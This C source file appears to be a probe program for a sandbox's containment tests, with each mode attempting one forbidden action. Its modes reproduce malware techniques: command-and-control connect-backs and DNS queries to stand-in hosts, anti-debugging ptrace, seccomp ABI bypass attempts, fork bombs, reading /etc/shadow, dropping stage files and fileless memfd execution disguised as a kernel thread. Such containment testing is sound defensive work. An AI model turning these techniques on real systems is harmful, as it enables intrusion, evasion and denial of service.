// sandbox-probe: tries one forbidden thing inside shmwarden's sandbox, for the containment tests.
// Usage: sandbox-probe MODE [ARG]. Prints what happened; the exit code says how far it got
// (0: the forbidden thing worked, which a test treats as a containment failure).
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <poll.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/stat.h>
#include <sys/types.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <termios.h>
#include <unistd.h>

static int refused(const char *what) {
    printf("%s refused: %s\n", what, strerror(errno));
    return 3;
}

// A DNS query for `name` (type A, class IN, recursion desired) with id `id`, in `query` (300
// bytes); its length.
static size_t dns_query(unsigned char *query, unsigned id, char *name) {
    const unsigned char header[12] = { id >> 8, id & 0xff, 0x01, 0x00, 0, 1, 0, 0, 0, 0, 0, 0 };
    memcpy(query, header, sizeof header);
    size_t length = sizeof header;
    for (char *label = strtok(name, "."); label && length + strlen(label) + 6 < 300; label = strtok(NULL, ".")) {
        query[length++] = (unsigned char)strlen(label);
        memcpy(query + length, label, strlen(label));
        length += strlen(label);
    }
    memcpy(query + length, "\0\0\1\0\1", 5);
    return length + 5;
}

int main(int argc, char **argv) {
    setvbuf(stdout, NULL, _IONBF, 0);
    const char *mode = argc > 1 ? argv[1] : "";
    if (!strcmp(mode, "connect-host")) {
        int s = socket(AF_INET, SOCK_STREAM, 0);
        if (s < 0) return refused("socket(AF_INET)");
        struct sockaddr_in address = { .sin_family = AF_INET, .sin_port = htons(atoi(argv[2])) };
        inet_pton(AF_INET, "127.0.0.1", &address.sin_addr);
        if (connect(s, (struct sockaddr *)&address, sizeof address) != 0) return refused("connect");
        printf("connected\n");
        return 0;
    }
    if (!strcmp(mode, "network") && argc > 2) {
        // What a dropper does with the network, each outcome printed: a connect-back that
        // sends a greeting and waits for an answer, a listener, one on a privileged port, a DNS
        // query, a raw and a packet socket. Then an IPv4 socket tries the host's abstract unix
        // socket argv[2], which only a socket made in the host's network namespace could reach.
        int tcp = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
        if (tcp < 0) return refused("socket(AF_INET)");
        struct sockaddr_in far = { .sin_family = AF_INET, .sin_port = htons(4444) };
        inet_pton(AF_INET, "203.0.113.7", &far.sin_addr);
        printf("connect %s\n", connect(tcp, (struct sockaddr *)&far, sizeof far) == 0 ? "ok" : strerror(errno));
        static const char greeting[] = "HELLO c2\n\x01\xff";
        printf("write %zd\n", write(tcp, greeting, sizeof greeting - 1));
        char answer[64];
        ssize_t answered = read(tcp, answer, sizeof answer);
        printf("read %s\n", answered == 0 ? "eof" : answered < 0 ? strerror(errno) : "data");
        printf("fd cloexec %s\n", fcntl(tcp, F_GETFD) & FD_CLOEXEC ? "kept" : "lost");
        printf("connect again %s\n", connect(tcp, (struct sockaddr *)&far, sizeof far) == 0 ? "ok" : strerror(errno));
        int listener = socket(AF_INET6, SOCK_STREAM, 0);
        struct sockaddr_in6 any = { .sin6_family = AF_INET6, .sin6_port = htons(31337) };
        printf("bind %s\n", bind(listener, (struct sockaddr *)&any, sizeof any) == 0 ? "ok" : strerror(errno));
        printf("listen %s\n", listen(listener, 1) == 0 ? "ok" : strerror(errno));
        int low = socket(AF_INET6, SOCK_STREAM, 0);
        any.sin6_port = htons(22);
        printf("bind 22 %s\n", bind(low, (struct sockaddr *)&any, sizeof any) == 0 ? "ok" : strerror(errno));
        int udp = socket(AF_INET, SOCK_DGRAM, 0);
        struct sockaddr_in dns = { .sin_family = AF_INET, .sin_port = htons(53) };
        inet_pton(AF_INET, "8.8.8.8", &dns.sin_addr);
        // A DNS query, as musl's resolver sends it: id, flags (recursion desired), one
        // question: c2.example.invalid, type A, class IN.
        static const unsigned char query[] = { 0x12, 0x34, 0x01, 0x00, 0, 1, 0, 0, 0, 0, 0, 0,
            2, 'c', '2', 7, 'e', 'x', 'a', 'm', 'p', 'l', 'e', 7, 'i', 'n', 'v', 'a', 'l', 'i', 'd', 0, 0, 1, 0, 1 };
        ssize_t sent = sendto(udp, query, sizeof query, 0, (struct sockaddr *)&dns, sizeof dns);
        printf("sendto %s\n", sent == (ssize_t)sizeof query ? "ok" : strerror(errno));
        struct sockaddr_in peer = { .sin_family = AF_INET, .sin_port = htons(9999) };
        inet_pton(AF_INET, "198.51.100.3", &peer.sin_addr);
        struct iovec part = { .iov_base = "ping", .iov_len = 4 };
        struct msghdr message = { .msg_name = &peer, .msg_namelen = sizeof peer, .msg_iov = &part, .msg_iovlen = 1 };
        printf("sendmsg %s\n", sendmsg(udp, &message, 0) == 4 ? "ok" : strerror(errno));
        printf("raw %s\n", socket(AF_INET, SOCK_RAW, IPPROTO_ICMP) >= 0 ? "ok" : strerror(errno));
        printf("packet %s\n", socket(AF_PACKET, SOCK_RAW, 0) >= 0 ? "ok" : strerror(errno));
        struct sockaddr_un host = { .sun_family = AF_UNIX };
        size_t length = strlen(argv[2]) < sizeof host.sun_path - 1 ? strlen(argv[2]) : sizeof host.sun_path - 1;
        memcpy(host.sun_path + 1, argv[2], length);
        int fresh = socket(AF_INET, SOCK_STREAM, 0);
        int reached = connect(fresh, (struct sockaddr *)&host, (socklen_t)(sizeof(sa_family_t) + 1 + length));
        printf("abstract %s\n", reached == 0 ? "ok" : strerror(errno));
        return reached == 0 ? 0 : 3;
    }
    if (!strcmp(mode, "resolve-unconnected") && argc > 3) {
        // A resolver as musl's: an unconnected non-blocking datagram socket, a query for argv[2]
        // (type A) sent to argv[3] port 53, the answer received with its source address, which
        // must be that name server's; then a second receive, with nothing left.
        int udp = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC | SOCK_NONBLOCK, 0);
        if (udp < 0) return refused("socket(AF_INET, SOCK_DGRAM)");
        struct sockaddr_in ns = { .sin_family = AF_INET, .sin_port = htons(53) };
        if (inet_pton(AF_INET, argv[3], &ns.sin_addr) != 1) return refused("nameserver");
        unsigned char query[300];
        size_t length = dns_query(query, 0x5a5b, argv[2]);
        ssize_t sent = sendto(udp, query, length, MSG_NOSIGNAL, (struct sockaddr *)&ns, sizeof ns);
        printf("sendto %s\n", sent == (ssize_t)length ? "whole" : strerror(errno));
        struct pollfd wait = { .fd = udp, .events = POLLIN };
        if (poll(&wait, 1, 2000) != 1) return refused("poll");
        unsigned char answer[512];
        struct sockaddr_in from = { 0 };
        socklen_t fromLength = sizeof from;
        ssize_t got = recvfrom(udp, answer, sizeof answer, 0, (struct sockaddr *)&from, &fromLength);
        if (got < 16) return refused("recvfrom");
        char text[64];
        printf("from %s:%d (%u) %s, id %s, rcode %d", inet_ntop(AF_INET, &from.sin_addr, text, sizeof text),
            ntohs(from.sin_port), (unsigned)fromLength, memcmp(&from, &ns, sizeof ns) == 0 ? "the server" : "another",
            answer[0] == 0x5a && answer[1] == 0x5b ? "matches" : "differs", answer[3] & 0x0f);
        if (answer[7] == 1) printf(", address %d.%d.%d.%d", answer[got - 4], answer[got - 3], answer[got - 2], answer[got - 1]);
        printf("\n");
        fromLength = sizeof from;
        got = recvfrom(udp, answer, sizeof answer, 0, (struct sockaddr *)&from, &fromLength);
        printf("again %s\n", got < 0 ? strerror(errno) : "data");
        return 3;
    }
    if (!strcmp(mode, "stand-in-queries")) {
        // What a client asks of its socket around a connect, as an IPv4 socket answers it:
        // its options (TCP_NODELAY, as Python's urllib3 sets it), its names before and after,
        // a name cut short, a bad pointer; then an HTTP request and the first line answered.
        // A unix socket's own queries, beside it, are the kernel's.
        int tcp = socket(AF_INET, SOCK_STREAM, 0);
        if (tcp < 0) return refused("socket(AF_INET)");
        int one = 1, value = -1;
        socklen_t length = sizeof value;
        printf("nodelay %s\n", setsockopt(tcp, IPPROTO_TCP, TCP_NODELAY, &one, sizeof one) == 0 ? "ok" : strerror(errno));
        getsockopt(tcp, IPPROTO_TCP, TCP_NODELAY, &value, &length);
        printf("nodelay read %d (%u)\n", value, (unsigned)length);
        length = sizeof value;
        getsockopt(tcp, IPPROTO_IP, IP_TTL, &value, &length);
        printf("ttl %d\n", value);
        int domain = -1, protocol = -1, type = -1;
        length = sizeof domain;
        getsockopt(tcp, SOL_SOCKET, SO_DOMAIN, &domain, &length);
        length = sizeof protocol;
        getsockopt(tcp, SOL_SOCKET, SO_PROTOCOL, &protocol, &length);
        length = sizeof type;
        getsockopt(tcp, SOL_SOCKET, SO_TYPE, &type, &length);
        printf("domain %d protocol %d type %d\n", domain, protocol, type);
        struct sockaddr_in name = { 0 };
        length = sizeof name;
        printf("peer before %s\n", getpeername(tcp, (struct sockaddr *)&name, &length) == 0 ? "ok" : strerror(errno));
        struct sockaddr_in far = { .sin_family = AF_INET, .sin_port = htons(80) };
        inet_pton(AF_INET, "203.0.113.7", &far.sin_addr);
        if (connect(tcp, (struct sockaddr *)&far, sizeof far) != 0) return refused("connect");
        char text[64];
        length = sizeof name;
        getsockname(tcp, (struct sockaddr *)&name, &length);
        printf("name %d %s %s (%u)\n", name.sin_family, inet_ntop(AF_INET, &name.sin_addr, text, sizeof text),
            ntohs(name.sin_port) ? "port" : "no port", (unsigned)length);
        length = sizeof name;
        getpeername(tcp, (struct sockaddr *)&name, &length);
        printf("peer %d %s:%d\n", name.sin_family, inet_ntop(AF_INET, &name.sin_addr, text, sizeof text), ntohs(name.sin_port));
        length = 4;
        getsockname(tcp, (struct sockaddr *)&name, &length);
        printf("cut short %u\n", (unsigned)length);
        length = sizeof name;
        printf("bad pointer %s\n", getsockname(tcp, (struct sockaddr *)8, &length) == 0 ? "ok" : strerror(errno));
        static const char request[] = "GET /stage2 HTTP/1.1\r\nHost: c2.example\r\n\r\n";
        if (write(tcp, request, sizeof request - 1) != (ssize_t)sizeof request - 1) return refused("write");
        char answer[256] = "";
        ssize_t got = read(tcp, answer, sizeof answer - 1);
        if (got > 0) answer[strcspn(answer, "\r\n")] = 0;
        printf("answer %s\n", got > 0 ? answer : "none");
        int six = socket(AF_INET6, SOCK_STREAM, 0);
        struct sockaddr_in6 any = { .sin6_family = AF_INET6 };
        if (bind(six, (struct sockaddr *)&any, sizeof any) != 0) return refused("bind");
        struct sockaddr_in6 bound = { 0 };
        length = sizeof bound;
        getsockname(six, (struct sockaddr *)&bound, &length);
        printf("bound %d %s %s (%u)\n", bound.sin6_family, inet_ntop(AF_INET6, &bound.sin6_addr, text, sizeof text),
            ntohs(bound.sin6_port) ? "port" : "no port", (unsigned)length);
        // A listen with no bind before it gets a port of its own, as TCP's does.
        int server = socket(AF_INET, SOCK_STREAM, 0);
        if (listen(server, 1) != 0) return refused("listen");
        length = sizeof name;
        getsockname(server, (struct sockaddr *)&name, &length);
        printf("listening %s %s\n", inet_ntop(AF_INET, &name.sin_addr, text, sizeof text), ntohs(name.sin_port) ? "port" : "no port");
        int local = socket(AF_UNIX, SOCK_STREAM, 0);
        struct sockaddr_storage own;
        length = sizeof own;
        getsockname(local, (struct sockaddr *)&own, &length);
        printf("unix %d\n", own.ss_family);
        printf("unix nodelay %s\n", setsockopt(local, IPPROTO_TCP, TCP_NODELAY, &one, sizeof one) == 0 ? "ok" : strerror(errno));
        return 3;
    }
    if (!strcmp(mode, "resolve-connected") && argc > 2) {
        // A resolver of its own, as Go's: the name server from resolv.conf (or argv[3], built
        // in, as Mirai's 8.8.8.8), a connected UDP socket, a query for argv[2] (type A), and the
        // answer's id and response code.
        FILE *conf = fopen("/etc/resolv.conf", "r");
        char line[256], server[64] = "";
        while (conf && fgets(line, sizeof line, conf)) sscanf(line, "nameserver %63s", server);
        if (conf) fclose(conf);
        if (argc > 3) snprintf(server, sizeof server, "%s", argv[3]);
        int udp = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC | SOCK_NONBLOCK, 0);
        if (udp < 0) return refused("socket(AF_INET, SOCK_DGRAM)");
        struct sockaddr_in ns = { .sin_family = AF_INET, .sin_port = htons(53) };
        if (inet_pton(AF_INET, server, &ns.sin_addr) != 1) return refused("nameserver");
        if (connect(udp, (struct sockaddr *)&ns, sizeof ns) != 0) return refused("connect");
        unsigned char query[300];
        size_t length = dns_query(query, 0x4a11, argv[2]);
        if (write(udp, query, length) != (ssize_t)length) return refused("write");
        struct pollfd wait = { .fd = udp, .events = POLLIN };
        if (poll(&wait, 1, 2000) != 1) return refused("poll");
        unsigned char answer[512];
        ssize_t got = read(udp, answer, sizeof answer);
        if (got < 12) return refused("read");
        // One A record at the end, when there is one.
        printf("server %s id %s rcode %d", server, answer[0] == 0x4a && answer[1] == 0x11 ? "matches" : "differs",
            answer[3] & 0x0f);
        if (answer[7] == 1 && got >= 16) printf(" address %d.%d.%d.%d", answer[got - 4], answer[got - 3], answer[got - 2], answer[got - 1]);
        printf("\n");
        return 3;
    }
    if (!strcmp(mode, "ptrace-parent")) {
        if (ptrace(PTRACE_ATTACH, getppid(), 0, 0) != 0) return refused("ptrace");
        return 0;
    }
    // The anti-debugging check of many samples: PTRACE_TRACEME, then on with its work.
    if (!strcmp(mode, "ptrace-traceme")) {
        long traced = ptrace(PTRACE_TRACEME, 0, 0, 0);
        printf("traceme %ld\n", traced);
        int fd = open("/tmp/after-traceme", O_WRONLY | O_CREAT, 0600);
        if (fd >= 0) close(fd);
        return traced == 0 ? 0 : 3;
    }
#if defined(__x86_64__)
    // The same call through another ABI must meet the same rule: ptrace through i386's (int 0x80,
    // its number 26) is killed as the native one is.
    if (!strcmp(mode, "ptrace-i386")) {
        long result;
        __asm__ volatile("int $0x80" : "=a"(result) : "a"(26L), "b"(0L), "c"(0L), "d"(0L) : "memory");
        printf("i386 ptrace returned %ld\n", result);
        return 0;
    }
    // x32's numbering (bit 30 set) is an ABI the filter does not cover: killed by its arch check.
    if (!strcmp(mode, "x32")) {
        long result = syscall(0x40000000L | SYS_getpid);
        printf("x32 getpid returned %ld\n", result);
        return 0;
    }
#endif
    if (!strcmp(mode, "mount")) {
        if (mount("tmpfs", "/tmp", "tmpfs", 0, NULL) != 0) return refused("mount");
        return 0;
    }
    if (!strcmp(mode, "unshare-user")) {
        if (unshare(CLONE_NEWUSER) != 0) return refused("unshare(CLONE_NEWUSER)");
        return 0;
    }
    if (!strcmp(mode, "io-uring")) {
        // io_uring runs opens, sockets (of any family) and connects in the kernel without
        // passing the seccomp filter: the filter must refuse the ring itself.
        char params[120];
        memset(params, 0, sizeof params);
        long ring = syscall(SYS_io_uring_setup, 4, params);
        if (ring < 0) return refused("io_uring_setup");
        return 0;
    }
    if (!strcmp(mode, "tiocsti")) {
        char c = 'x';
        if (ioctl(0, TIOCSTI, &c) != 0) return refused("ioctl(TIOCSTI)");
        return 0;
    }
    if (!strcmp(mode, "fork-bomb")) {
        int made = 0;
        for (int i = 0; i < 100000; i++) {
            pid_t pid = fork();
            if (pid == 0) { pause(); _exit(0); }
            if (pid < 0) break;
            made++;
        }
        printf("forked %d before the limit\n", made);
        return made >= 100000 ? 0 : 3;
    }
    if (!strcmp(mode, "write-big")) {
        signal(SIGXFSZ, SIG_IGN);
        int fd = open("/tmp/big", O_WRONLY | O_CREAT | O_TRUNC, 0600);
        static char block[1 << 20];
        long long written = 0;
        for (int i = 0; i < 10 * 1024; i++) {
            ssize_t n = write(fd, block, sizeof block);
            if (n <= 0) break;
            written += n;
        }
        printf("wrote %lld bytes\n", written);
        return written >= 10LL << 30 ? 0 : 3;
    }
    // Many processes, each within its own rlimit, together far beyond what a run may take.
    if (!strcmp(mode, "fork-alloc") && argc > 3) {
        int count = atoi(argv[2]);
        size_t size = (size_t)atoi(argv[3]) << 20;
        for (int i = 0; i < count; i++) {
            pid_t pid = fork();
            if (pid == 0) {
                char *p = malloc(size);
                if (!p) _exit(2);
                for (size_t j = 0; j < size; j += 4096) p[j] = 1;
                sleep(2);
                _exit(0);
            }
            if (pid < 0) break;
        }
        int finished = 0, killed = 0, status;
        while (wait(&status) > 0) {
            if (WIFEXITED(status) && WEXITSTATUS(status) == 0) finished++;
            if (WIFSIGNALED(status)) killed++;
        }
        printf("finished %d killed %d\n", finished, killed);
        return 0;
    }
    if (!strcmp(mode, "alloc-big")) {
        size_t size = 10ULL << 30;
        char *p = malloc(size);
        if (!p) return refused("malloc(10 GiB)");
        for (size_t i = 0; i < size; i += 4096) p[i] = 1;
        return 0;
    }
    if (!strcmp(mode, "sleep-escape")) {
        // A child that double-forks and leaves its session, to outlive the kill.
        if (fork() == 0) {
            if (fork() == 0) { setsid(); sleep(600); _exit(0); }
            _exit(0);
        }
        sleep(600);
        return 0;
    }
    if (!strcmp(mode, "kill-pid1")) {
        if (kill(1, SIGKILL) != 0) return refused("kill(1, SIGKILL)");
        return 0;
    }
    if (!strcmp(mode, "read-shadow")) {
        int fd = open("/etc/shadow", O_RDONLY);
        if (fd < 0) return refused("open(/etc/shadow)");
        return 0;
    }
    if (!strcmp(mode, "setuid")) {
        // su is set-uid root on the host; here /usr is nosuid and no_new_privs is set.
        execl("/usr/bin/su", "su", "root", "-c", "id -u", (char *)NULL);
        return refused("execl(/usr/bin/su)");
    }
    if (!strcmp(mode, "drop")) {
        int fd = open("/tmp/stage2", O_WRONLY | O_CREAT | O_TRUNC, 0755);
        if (fd < 0) return refused("open(/tmp/stage2)");
        ssize_t ignored = write(fd, "#!/bin/sh\necho stage2\n", 22);
        (void)ignored;
        close(fd);
        unlink("/tmp/nothing");
        printf("dropped\n");
        return 0;
    }
    if (!strcmp(mode, "fds")) {
        // Which descriptors the jail handed over (the listing's own descriptor excluded).
        for (int fd = 0; fd < 4096; fd++) {
            if (fcntl(fd, F_GETFD) >= 0) printf("%d ", fd);
        }
        printf("\n");
        return 0;
    }
    if (!strcmp(mode, "hold-abstract") && argc > 2) {
        // Not a containment case: run on the host, it holds an abstract unix socket name (as a
        // sandbox run in another process holds its identity) until it is killed.
        struct sockaddr_un address = { .sun_family = AF_UNIX };
        size_t length = strlen(argv[2]) < sizeof address.sun_path - 1 ? strlen(argv[2]) : sizeof address.sun_path - 1;
        memcpy(address.sun_path + 1, argv[2], length);
        int s = socket(AF_UNIX, SOCK_DGRAM, 0);
        if (s < 0 || bind(s, (struct sockaddr *)&address, (socklen_t)(sizeof(sa_family_t) + 1 + length)) != 0)
            return refused("bind");
        printf("held\n");
        for (;;) pause();
    }
    if (!strcmp(mode, "nscd-abuse") && argc > 2) {
        // Holds three connections to the jail's name service open (one silent, one announcing a
        // 2 GB key, one of another protocol version), then runs a real lookup of argv[2].
        int headers[3][3] = { { 0 }, { 2, 14, 0x7fffffff }, { 99, 14, 5 } };
        for (int i = 0; i < 3; i++) {
            struct sockaddr_un address = { .sun_family = AF_UNIX, .sun_path = "/var/run/nscd/socket" };
            int s = socket(AF_UNIX, SOCK_STREAM, 0);
            if (s < 0 || connect(s, (struct sockaddr *)&address, sizeof address) != 0) return refused("connect");
            if (i > 0 && write(s, headers[i], sizeof headers[i]) != (ssize_t)sizeof headers[i]) return refused("write");
        }
        execl("/usr/bin/getent", "getent", "ahosts", argv[2], (char *)NULL);
        return refused("execl(/usr/bin/getent)");
    }
    if (!strcmp(mode, "fchmod")) {
        // A dropper's way: write a file, then make it executable through its descriptor.
        int fd = open("/tmp/stage3", O_WRONLY | O_CREAT | O_TRUNC, 0600);
        if (fd < 0) return refused("open(/tmp/stage3)");
        if (write(fd, "#!/bin/sh\n", 10) != 10 || fchmod(fd, 0755) != 0) return refused("fchmod");
        close(fd);
        printf("made executable\n");
        return 0;
    }
    if (!strcmp(mode, "dirfd-open")) {
        // Opens relative to directory descriptors, as a dropper that avoids absolute paths
        // might: a credential file (absent in the jail: still an attempt), an ordinary name,
        // and a file created for writing.
        int etc = open("/etc", O_RDONLY | O_DIRECTORY);
        int tmp = open("/tmp", O_RDONLY | O_DIRECTORY);
        if (etc < 0 || tmp < 0) return refused("open(/etc, /tmp)");
        int shadow = openat(etc, "shadow", O_RDONLY);
        if (shadow >= 0) close(shadow);
        int hostname = openat(etc, "hostname", O_RDONLY);
        if (hostname >= 0) close(hostname);
        int out = openat(tmp, "stage4", O_WRONLY | O_CREAT | O_TRUNC, 0700);
        if (out < 0) return refused("openat(/tmp, stage4)");
        close(out);
        printf("opened\n");
        return 0;
    }
    if (!strcmp(mode, "memfd-exec")) {
        // Fileless execution: a copy of /usr/bin/true in a memfd, run through its descriptor
        // with an argv[0] that poses as a kernel thread (with "by-path": execve of
        // /proc/self/fd/N instead of fexecve). It renames itself first, as miners do.
        prctl(PR_SET_NAME, "kworker/0:1", 0, 0, 0);
        int memfd = memfd_create("stage2", 0);
        int source = open("/usr/bin/true", O_RDONLY);
        if (memfd < 0 || source < 0) return refused("memfd_create/open");
        char buffer[65536];
        ssize_t count;
        while ((count = read(source, buffer, sizeof buffer)) > 0) {
            if (write(memfd, buffer, (size_t)count) != count) return refused("write");
        }
        char *args[] = { "[kthreadd]", NULL };
        char *env[] = { NULL };
        if (argc > 2 && !strcmp(argv[2], "by-path")) {
            char path[64];
            snprintf(path, sizeof path, "/proc/self/fd/%d", memfd);
            execve(path, args, env);
            return refused("execve");
        }
        fexecve(memfd, args, env);
        return refused("fexecve");
    }
    fprintf(stderr, "unknown mode '%s'\n", mode);
    return 2;
}
